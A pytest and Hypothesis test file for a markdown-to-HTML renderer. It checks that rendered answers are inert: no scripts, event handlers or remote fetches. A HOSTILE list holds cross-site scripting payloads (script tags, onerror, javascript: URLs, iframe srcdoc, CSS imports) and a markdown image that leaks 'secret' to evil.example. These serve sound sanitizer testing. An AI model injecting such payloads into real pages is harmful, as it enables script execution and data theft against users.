"""Answers become HTML that runs nothing and fetches nothing."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from carrel.ui.markdown import markdown_to_html

FETCHING = {"img", "script", "iframe", "object", "embed", "video", "audio", "source", "link", "svg"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=http://evil.example/a.png onerror=alert(1)>",
    "![secret](http://evil.example/a.png?q=secret)",
    "![a][r]\n\n[r]: http://evil.example/a.png",
    "![a](//evil.example/a.png)",
    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:x)",
    '[a](<http://evil.example/" onmouseover="alert(1)>)',
    '[a](http://evil.example "x\\" onmouseover=\\"alert(1)")',
    '<http://evil.example/"onmouseover=alert(1)>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg><image href=http://evil.example/x /></svg>",
    "`<b onclick=x>`",
    "```<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
    "<style>@import url(http://evil.example)</style>",
    "<a href='http://evil.example' style='background:url(http://evil.example)'>x</a>",
    "${alert(1)} {{constructor}}",
]


class Elements(HTMLParser):
    """Collects the elements of a text with their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    """Return the elements of a text."""
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.found


def assert_inert(html: str) -> None:
    """Fail if the HTML holds anything that runs, or that fetches without a click."""
    for tag, attributes in elements(html):
        assert tag not in FETCHING
        assert not [name for name in attributes if name.startswith("on")]
        assert not {"src", "srcset", "style", "background", "poster"} & attributes.keys()
        if tag == "a":
            address = attributes["href"] or ""
            assert address.lower().startswith(("http://", "https://", "mailto:"))
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_becomes_inert(text: str) -> None:
    assert_inert(markdown_to_html(text))


@given(st.lists(st.sampled_from([*HOSTILE, "[", "](", ")", "![", "<", ">", "`", "\n", " ", '"'])))
def test_pieces_of_hostile_markdown_joined_in_any_way_become_inert(pieces: list[str]) -> None:
    assert_inert(markdown_to_html("".join(pieces)))


@given(st.text(alphabet="<>[]()!`\"'&;:/\\ \nahrefimgsrconjavascript=#*_|-~"))
def test_random_markup_becomes_inert(text: str) -> None:
    assert_inert(markdown_to_html(text))


def test_html_is_shown_as_it_was_written() -> None:
    assert "&lt;b&gt;bold&lt;/b&gt;" in markdown_to_html("<b>bold</b>")


def test_an_image_is_named_and_not_loaded() -> None:
    html = markdown_to_html("![a chart](http://evil.example/c.png)")
    assert "[Image: a chart http://evil.example/c.png]" in html


def test_a_link_shows_where_it_leads() -> None:
    (tag, attributes), *_ = [
        each for each in elements(markdown_to_html("[x](https://a.example/b)")) if each[0] == "a"
    ]
    assert tag == "a"
    assert attributes["title"] == attributes["href"] == "https://a.example/b"


def test_structure_is_kept() -> None:
    html = markdown_to_html("# T\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n`c` **d** ~~e~~")
    found = [tag for tag, _ in elements(html)]
    assert {"h1", "ul", "li", "table", "td", "code", "strong", "s"} <= set(found)


def test_a_line_break_stays_a_line_break() -> None:
    assert "<br" in markdown_to_html("one\ntwo")


def test_an_open_code_block_is_already_code_while_the_answer_is_written() -> None:
    html = markdown_to_html("```python\nprint(1)")
    assert '<span class="code-name">print</span>(' in html
    assert html.endswith("</code></pre></div>\n")
